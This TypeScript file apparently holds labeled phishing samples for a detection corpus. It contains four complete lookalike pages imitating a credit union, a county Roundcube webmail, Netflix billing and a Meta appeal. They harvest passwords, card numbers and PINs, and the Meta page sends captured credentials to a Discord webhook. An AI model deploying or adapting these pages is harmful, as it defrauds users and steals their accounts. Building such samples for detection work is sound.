import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, cardFields, cardFormatJs, codes, doc, formCss, mark, tgRelay } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-heartland-valley-fcu-lookalike',
  label: 'phishing',
  kind: 'credit-union-kit',
  url: 'https://hvfcu-online.com/onlinebanking/login',
  body: doc({
    title: 'Heartland Valley FCU | Online Banking',
    css: `body{margin:0;font-family:Lato,Arial,sans-serif;background:#eef2ee}.h{background:#2f5d3a;color:#fff;padding:16px 26px;display:flex;align-items:center;gap:12px}.h b{font-size:20px}.c{max-width:400px;margin:40px auto;background:#fff;padding:26px;border-top:5px solid #d9a400}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #aaa;margin:6px 0 12px;font-size:16px}button{width:100%;background:#2f5d3a;color:#fff;border:0;padding:12px;font-size:16px}.n{font-size:12px;color:#555}`,
    body: `<div class="h">${mark('', '#d9a400', 'H', '#2f5d3a')}<b>Heartland Valley Federal Credit Union</b></div>
<div class="c"><h2 style="margin-top:0">Member Login</h2>
<p style="font-size:14px;background:#fff8e1;padding:8px">Due to our system upgrade, all members must re-validate their account by April 30 to avoid interruption of debit card service.</p>
<form method="post" action="/onlinebanking/validate.php">
<label>Member number or username</label><input name="member" required>
<label>Password</label><input name="password" type="password" required>
<label>Debit card number</label><input name="card" required>
<label>Card PIN</label><input name="pin" type="password" maxlength="4" required>
<button>Validate</button></form>
<p class="n">Federally insured by NCUA. Equal Housing Opportunity. Routing # 2730 7581 4</p></div>`,
  }),
},

{
  id: 'ye-county-roundcube-quota-upgrade',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail-polkcountyiowa-gov.webmail-upgrade.com/roundcube/?_task=login',
  body: doc({
    title: 'Polk County Webmail :: Welcome to Polk County Webmail',
    css: `body{margin:0;background:#e9ecef;font-family:"Source Sans Pro",Arial,sans-serif}#layout{max-width:360px;margin:80px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 0 4px rgba(0,0,0,.2)}.logo{text-align:center;color:#37beff;font-size:28px;font-weight:700}.q{background:#fff3cd;border:1px solid #ffe08a;padding:10px;font-size:13px;margin:14px 0}.q div{height:8px;background:#eee;margin-top:6px}.q div i{display:block;height:8px;width:98%;background:#d9534f}table{width:100%}td{padding:6px 0}input{width:100%;box-sizing:border-box;padding:8px;border:1px solid #ccc;border-radius:3px}button{width:100%;background:#37beff;color:#fff;border:0;padding:10px;border-radius:3px;font-size:15px}`,
    body: `<div id="layout"><div class="logo">roundcube</div>
<div class="q">Your mailbox has reached 98% of its storage quota (1.96 GB of 2 GB). Incoming messages will be rejected. Log in below to upgrade your quota automatically.<div><i></i></div></div>
<form name="login-form" method="post" action="https://mail-polkcountyiowa-gov.webmail-upgrade.com/roundcube/upgrade.php">
<input type="hidden" name="_token" value="K3nR8vQw0zPjT5LmXcY2"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login">
<table><tr><td><input name="_user" placeholder="Username" value="" required></td></tr><tr><td><input name="_pass" type="password" placeholder="Password" required></td></tr></table>
<br><button type="submit">Login</button></form>
<p style="text-align:center;font-size:12px;color:#888">Polk County Information Technology</p></div>`,
  }),
},

{
  id: 'ye-netflix-billing-update-card',
  label: 'phishing',
  kind: 'streaming-billing-kit',
  url: 'https://netflix-account-billing.com/YourAccount/payment',
  body: doc({
    title: 'Netflix',
    css: `body{margin:0;background:#fff;font-family:"Netflix Sans",Helvetica,Arial,sans-serif}.h{padding:18px 36px;border-bottom:1px solid #e6e6e6;color:#e50914;font-size:32px;font-weight:800;letter-spacing:1px}.c{max-width:440px;margin:30px auto;padding:0 18px}.s{font-size:13px;text-transform:uppercase;color:#333}h1{font-size:30px;margin:6px 0 16px}button{width:100%;background:#e50914;color:#fff;border:0;padding:16px;font-size:20px;border-radius:4px}${formCss}`,
    body: `<div class="h">NETFLIX</div>
<div class="c"><p class="s">Step 2 of 2</p><h1>Update your payment information</h1>
<p>We were unable to authorize your payment for the next billing cycle. Update your card to keep watching without interruption.</p>
<form id="nf" method="post" action="/YourAccount/process.php">
<div class="fld"><label>First name</label><input name="fn" required></div><div class="fld"><label>Last name</label><input name="ln" required></div>
${cardFields({ name: false })}
<div class="fld"><label>Date of birth</label><input name="dob" placeholder="MM/DD/YYYY"></div>
<button>Save</button></form></div>
<script>${cardFormatJs}</script>`,
  }),
},

{
  id: 'ye-meta-copyright-appeal-discord',
  label: 'phishing',
  kind: 'social-account-kit',
  url: 'https://meta-business-appeal-center.netlify.app/',
  body: doc({
    title: 'Meta Business Help Center | Case #7739200184',
    css: `body{margin:0;background:#f0f2f5;font-family:Helvetica,Arial,sans-serif}.h{background:#fff;padding:14px 26px;box-shadow:0 1px 2px rgba(0,0,0,.1);color:#0866ff;font-weight:700;font-size:22px}.c{max-width:560px;margin:26px auto;background:#fff;border-radius:8px;padding:24px}.w{background:#fff3cd;padding:12px;border-radius:6px;font-size:14px}input,textarea{width:100%;box-sizing:border-box;border:1px solid #ccd0d5;border-radius:6px;padding:11px;margin:6px 0 12px;font-size:15px}button{width:100%;background:#0866ff;color:#fff;border:0;border-radius:6px;padding:12px;font-size:16px;font-weight:700}`,
    body: `<div class="h">&infin; Meta</div>
<div class="c"><h2>Your page has been scheduled for permanent deletion</h2>
<p class="w">We received a report that content on your Page infringes on another party's intellectual property rights. If you believe this is a mistake, submit an appeal within 24 hours.</p>
<form id="ap"><label>Page name</label><input name="page" required><label>Business email</label><input name="email" type="email" required><label>Facebook password</label><input name="password" type="password" required><label>Additional details</label><textarea name="msg" rows="3"></textarea><button>Submit appeal</button></form></div>
<script>
document.getElementById('ap').addEventListener('submit',function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));
fetch('https://discord.com/api/webhooks/1359884120447291402/Xq2bVt8mK0zR5yPwLhN3cJ7dF1sGa9eUoTi4nB6lQxE-MzrYkW8pCv0H',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({content:'**META** '+JSON.stringify(d)})})
.then(function(){document.querySelector('.c').innerHTML='<h2>Two-factor authentication required</h2><p>Enter the 6 or 8-digit code from your authentication app.</p><input id=c2><button onclick="location.href=\\'https://www.facebook.com/help\\'">Submit</button>';});});
</script>`,
  }),
},
];
